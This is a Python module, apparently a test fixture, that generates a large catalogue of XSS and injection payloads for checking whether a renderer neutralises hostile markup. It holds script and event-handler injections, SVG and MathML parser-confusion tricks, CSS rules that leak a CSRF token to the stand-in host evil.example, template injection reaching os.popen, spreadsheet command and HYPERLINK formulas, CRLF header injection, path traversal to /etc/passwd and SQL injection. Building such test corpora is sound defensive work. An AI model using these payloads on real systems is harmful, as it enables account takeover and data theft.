"""Text that would do something if a page took it for markup; each calls `ran(n)` or asks the host evil.example."""

from collections.abc import Sequence

EVIL = "evil.example"
_MARKUP = (
    # plain scripts and event handlers
    "<script>{run}</script>",
    "<ScRiPt src=//{evil}/{n}.js></sCrIpT>",
    "<script type=module>import('//{evil}/{n}.js')</script>",
    "<img src=x onerror={run}>",
    "<img src=//{evil}/{n}.png>",
    "<body onload={run}>",
    "<body background=//{evil}/{n}.gif>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<marquee onstart={run}>",
    "<select autofocus onfocus={run}>",
    "<div onpointerover={run} style='position:fixed;inset:0'>x</div>",
    # SVG and MathML
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><animate attributeName=href values=javascript:{run} /><a><text x=20 y=20>x</text></a></svg>",
    "<svg><set attributeName=style to=background:url(//{evil}/{n})></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={run} />#x'></svg>",
    "<svg><filter id=f><feImage href=//{evil}/{n}.svg /></filter></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>",
    "<svg></p><style><a id='</style><img src=1 onerror={run}>'>",
    # breaking out of what a template puts around it
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</script><script>{run}</script>",
    "</style><script>{run}</script>",
    "--><script>{run}</script><!--",
    "]]><script>{run}</script>",
    '" autofocus onfocus={run} x="',
    "' autofocus onfocus={run} x='",
    "`\" onmouseover={run} style='position:fixed;inset:0' \"",
    '"><img src=x onerror={run}>',
    "&lt;img src=x onerror={run}&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    # other ways to load or go elsewhere
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<object data=//{evil}/{n}.html></object>",
    "<embed src=//{evil}/{n}.swf>",
    "<link rel=stylesheet href=//{evil}/{n}.css>",
    "<style>@import url(//{evil}/{n}.css);*{{background:url(//{evil}/{n})!important}}</style>",
    "<meta http-equiv=refresh content='0;url=//{evil}/{n}'>",
    "<base href=//{evil}/>",
    "<form action=//{evil}/{n}><button autofocus formaction=javascript:{run}>",
    "<a href=javascript:{run} ping=//{evil}/{n}>javascript:{run}//http://ok.example</a>",
    "<xmp><script>{run}</script></xmp>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template shadowrootmode=open><script>{run}</script></template>",
    # for our own templates and catalogues
    "{{{{ cycler.__init__.__globals__.os.popen('{run}') }}}}",
    "{{% include 'login.html' %}}{{n}} {{name}} {{0.__class__}} %(n)s ${{n}} <%= {run} %>",
)
# the same ideas as the lists that everybody tries, in other spellings; here a third of them calls alert or console.log
_MORE = (
    # one text for many places
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={run} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd={run}//>\\x3e",
    '\'">><marquee><img src=x onerror={run}></marquee>"></plaintext\\></|\\><plaintext/onmouseover={run}>',
    "\"'--></style></script></title></textarea></noscript></template></select></xmp><svg/onload={run}>",
    # attributes without quotes, odd blanks, broken tags
    "<img/src/onerror={run}>",
    "<img src=x\x0conerror={run}\x0c>",
    "<svg\x0bonload={run}><svg\tonload={run}><svg\nonload={run}>",
    "<<script>{run}//<</script>",
    '<img src=x onerror="{run}" <b>',
    "<img src='x'onerror={run}>",
    "<a x='>' autofocus tabindex=1 onfocus={run}>",
    "<svg/onload={run} onerror=1 <!--",
    "<input type=image src=x onerror={run}>",
    "<style onload={run}></style>",
    "<link rel=stylesheet href=data:, onload={run}>",
    "<iframe onload={run}></iframe>",
    "<object data=data:, onerror={run}></object>",
    "<video autoplay onloadstart={run}><source src=x></video>",
    "<div style='animation:x 1s' onanimationstart={run}></div><style>@keyframes x{{}}</style>",
    "<div popover id=p{n} onbeforetoggle={run}></div><button popovertarget=p{n} autofocus>x</button>",
    "<details open ontoggle='{run}'><summary>x",
    "<body onpageshow={run} onfocus={run} onhashchange={run}>",
    # what parsers read differently
    "<svg><style><p><img src=x onerror={run}></style></svg>",
    "<svg><style><p><link rel=preconnect href=//{evil}/{n}></style></svg>",
    "<svg><desc><style><p title='</style><img src=x onerror={run}>'></desc></svg>",
    "<math><mi><mglyph><svg><mtext><style><path id='</style><img src=x onerror={run}>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img onerror={run} src>",
    "<math><annotation-xml encoding='text/html'><xmp>&lt;/xmp&gt;&lt;img src=x onerror={run}&gt;</xmp></math>",
    "<select><template><style></select><img src=x onerror={run}></style></template>",
    "<textarea><p title='</textarea><img src=x onerror={run}>'>",
    "<title><a title='</title><p><link rel=preconnect href=//{evil}/{n}>'></title>",
    "<noembed><p title='</noembed><img src=x onerror={run}>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror={run}>'></xmp>",
    "<table><td><svg><desc><td><img src=x onerror={run}>",
    "<![CDATA[<img src=x onerror={run}>]]>",
    "<?xml-stylesheet href='javascript:{run}'?><img src=x onerror={run}>",
    "<!--><img src=x onerror={run}>-->",
    "<!doctype html [<!entity x SYSTEM '//{evil}/{n}'>]><p>&x;",
    # addresses that are scripts
    "<a href='java&#x09;script:{run}' id=l{n}>x</a><script>l{n}.click()</script>",
    "<a href='&#1;javascript:{run}'>x</a>",
    "<a href='javascript&colon;{run}'>x</a>",
    "<a href='data:text/html,<script>{run}</script>' target=_top>x</a>",
    "<iframe src='data:text/html,<script>new Image().src=`http://{evil}/{n}`</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.{run}&gt;'></iframe>",
    "[x](javascript:{run}) <javascript:{run}> http://x' onmouseover='{run} http://[::1]\"autofocus/onfocus={run}//",
    'http://{evil}/{n}?"><img src=//{evil}/{n}> www.{evil}/<svg/onload={run}>',
    # asking somebody else
    "<img srcset='//{evil}/{n} 1x, //{evil}/{n} 2x'>",
    "<picture><source srcset=//{evil}/{n}><img></picture>",
    "<img lowsrc=//{evil}/{n} dynsrc=//{evil}/{n} longdesc=//{evil}/{n} src=https:/\\{evil}/{n}>",
    "<video poster=//{evil}/{n} src=//{evil}/{n} autoplay></video>",
    "<link rel=preconnect href=//{evil}/{n}><link rel=dns-prefetch href=//{n}.{evil}>",
    "<link rel=prefetch href=//{evil}/{n}><link rel=modulepreload href=//{evil}/{n}>",
    "<link rel='icon shortcut' href=//{evil}/{n}><link rel=manifest href=//{evil}/{n}>",
    "<link rel=preload as=font crossorigin href=//{evil}/{n}>",
    "<style>@font-face{{font-family:x{n};src:url(//{evil}/{n})}}p{{font-family:x{n}}}</style><p>x</p>",
    "<style>@import '//{evil}/{n}';</style>",
    "<p style='background:url(//{evil}/{n})'>x</p>",
    "<p style='background:u\\72l(//{evil}/{n});--x:url(//{evil}/{n})",
    "<p style='list-style:var(--x);--x:url(//{evil}/{n});cursor:image-set(\"//{evil}/{n}\")'>x",
    "<style>input[name=csrf][value^=a]{{background:url(//{evil}/{n})}}</style>",
    "<svg><image href=//{evil}/{n} width=9 height=9 /></svg>",
    "<svg><use href=//{evil}/{n}#x /><rect fill='url(//{evil}/{n}#y)' width=9 height=9 /></svg>",
    "<table background=//{evil}/{n}><td background=//{evil}/{n}>x</table>",
    "<frameset><frame src=//{evil}/{n}></frameset>",
    "<meta http-equiv=refresh content='1; URL=//{evil}/{n}'><meta http-equiv=Set-Cookie content=tinbai=x>",
    "<meta http-equiv=Content-Security-Policy content='img-src *;report-uri //{evil}/{n}'>",
    "<base href='//{evil}/' target=_top><img src={n}.png>",
    "<form id=f{n} action=//{evil}/{n}></form><script>f{n}.submit()</script>",
    "<form id=g{n}></form><input type=image form=g{n} formaction=//{evil}/{n} src=//{evil}/{n}>",
    '<script type=speculationrules>{{"prerender":[{{"urls":["//{evil}/{n}"]}}]}}</script>',
    '<script type=importmap>{{"imports":{{"./queue.js":"//{evil}/{n}"}}}}</script>',
    # ends of lines and of texts, other directions, templates, formulas, scripts in data
    "\u2028</script><script>\u2029{run}</script>",
    "\u202e<script>{run}</script>\u202c\u2066\u200b\ufeff",
    "a\r\nContent-Type: text/html\r\n\r\n<script>{run}</script>",
    'a;filename=x.html";\r\nX: y <svg onload={run}>',
    "%0d%0aSet-Cookie:x=1%0d%0a%0d%0a%3Cscript%3E{run}%3C/script%3E",
    "\ufeff+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e \u02bb\u02ba onload={run}",
    "{{{{7*7}}}} ${{7*7}} #{{7*7}} <%= 7*7 %> {{{{constructor.constructor('{run}')()}}}} {{{{self.__init__}}}} @(7*7)",
    "{{{{''.__class__.__mro__[1].__subclasses__()}}}}{{% raw %}}{{%- for x in () %}}",
    "<p hx-get=//{evil}/{n} hx-trigger=load hx-on:load={run} data-news=//{evil}/{n} data-piece=//{evil}/{n}>x</p>",
    "<div x-data x-init={run} v-html={run} ng-app ng-init={run}>{{{{{n}}}}}</div>",
    '"}}]}};{run};var x={{"a":[{{"b":"',
    '=cmd|\'/c calc\'!A0 @SUM(1) +1 -1 =HYPERLINK("http://{evil}/{n}","x")',
    "../../../../etc/passwd\\..\\..\\boot.ini",
    "%s %(x)s %n {{}} {{0}} {{x!r}} $x $(x) `{run}` ' OR 1=1 -- \" ; DROP TABLE drafts",
)
_CALLS = ("ran({n})", "alert({n})", "console.log('ran',{n})")


def payloads(evil: str = EVIL) -> Sequence[str]:
    """All of them, asking that host."""
    first = [one.format(run=f"ran({number})", evil=evil, n=number) for number, one in enumerate(_MARKUP)]
    more = [
        one.format(run=_CALLS[number % 3].format(n=number), evil=evil, n=number)
        for number, one in enumerate(_MORE, len(_MARKUP))
    ]
    return (*first, *more)


PAYLOADS = payloads()
FIRST = PAYLOADS[: len(_MARKUP)]  # enough for a test that looks at many mails
